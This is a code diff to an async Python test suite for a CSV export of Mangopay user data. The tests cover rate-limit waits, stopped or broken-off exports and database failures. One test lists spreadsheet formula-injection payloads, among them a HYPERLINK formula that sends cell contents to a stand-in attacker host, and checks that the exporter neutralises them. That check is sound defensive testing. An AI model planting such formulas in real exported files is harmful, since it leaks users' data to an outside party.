@@ -29,6 +29,7 @@ from services.objects.exports import Progress
 from services.settings import LOCAL_API_KEY, LOCAL_CLIENT_ID, Settings
 from tests.browser.access import sign_up
 from tests.services.access.world import stored_rows
+from tests.services.mangopay.test_client import limit_headers
 from tests.services.objects.shop import Row, Shop, client_of, page_of
 from tests.services.search.market import NOW, learn, person
 from tests.serving import Server, serving
@@ -138,19 +139,34 @@ async def test_who_stops_it_gets_a_file_that_is_broken_off(counter: Counter) -> 
 
 
 async def test_who_stops_it_while_it_waits_for_the_limit_hears_of_no_error(counter: Counter) -> None:
+    limits = limit_headers(remaining=0, reset_at=NOW.replace(year=2100))
+    counter.shop.does("/users", second_page(lambda _: httpx.Response(429, headers=limits)))
     button = counter.button()
-    address = await button.press()
+    fetching = asyncio.create_task(counter.fetch(await button.press()))
+    await until(lambda: "rows. Waiting for Mangopay's rate limit 2100-11-22 12:00:00 UTC" in button.says)
+    assert button.looks_on
+    button.button._give_up()
+    got = await fetching
+    assert (len(got.rows), got.is_whole) == (100, False)
+    assert button.says == "Stopped after 100 of 250 rows. The file is not complete."
+
+
+async def test_a_limit_that_is_reached_at_once_is_told_by_a_page(counter: Counter) -> None:
     late = NOW.replace(year=2100)
     counter.services.clients[LOCAL].governor.hear(
         RateLimit(tuple(Window(minutes, 9, 0, late) for minutes in WINDOW_MINUTES))
     )
-    fetching = asyncio.create_task(counter.fetch(address))
-    await until(lambda: "Waiting for Mangopay's rate limit 2100-11-22 12:00:01 UTC" in button.says)
-    assert button.looks_on
-    button.button._give_up()
-    got = await fetching
-    assert (got.rows, got.is_whole) == ([], False)
-    assert button.says == "Stopped after 0 rows. The file is not complete."
+    got = await counter.fetch("/exports/users.csv")
+    assert got.status == 502
+    assert got.body.decode().startswith("Mangopay's rate limit is reached")
+
+
+async def test_rows_that_leave_the_list_in_its_midst_are_told(counter: Counter) -> None:
+    counter.shop.does("/users", second_page(lambda request: page_of(users(249), request)))
+    button = counter.button()
+    got = await counter.fetch(await button.press())
+    assert (len(got.rows), got.is_whole) == (100, False)
+    assert "Rows have left the list while it was read" in button.says
 
 
 async def test_who_leaves_in_its_midst_is_told_no_success(counter: Counter) -> None:
@@ -170,9 +186,9 @@ async def test_a_database_that_fails_in_its_midst_is_told_no_success(counter: Co
 
     button = counter.button()
     address = await button.press()
-    with pytest.raises(RuntimeError, match="response already started"):
-        await counter.fetch(address, at_piece=lose_the_index)
-    assert "The export stopped after 100 rows" in button.says
+    got = await counter.fetch(address, at_piece=lose_the_index)
+    assert (len(got.rows), got.is_whole) == (100, False)
+    assert "The export stopped after 100 rows: The database does not answer just now." in button.says
 
 
 async def test_who_is_signed_out_meanwhile_gets_no_further_row(counter: Counter) -> None:
@@ -205,7 +221,7 @@ async def test_what_failed_at_once_is_in_the_audit_log_too(counter: Counter) -> 
 
 
 async def test_no_tag_of_a_user_becomes_a_formula(counter: Counter) -> None:
-    tags = ['=HYPERLINK("http://mallory.test?"&A1)', "@SUM(1)", "+1", "-1", "\t=1", "\r=1", 'a",=1\r\n=1', "vip"]
+    tags = ['=HYPERLINK("http://mallory.test?"&A1)', "@SUM(1)", "+1", "-1+1", "\t=1", "\r=1", 'a",=1\r\n=1', "vip"]
     counter.shop.lists("/users", [{"Id": str(number), "Tag": tag} for number, tag in enumerate(tags)])
     got = await counter.fetch("/exports/users.csv")
     assert [row["Tag"] for row in got.rows] == [f"'{tag}" for tag in tags[:6]] + tags[6:]
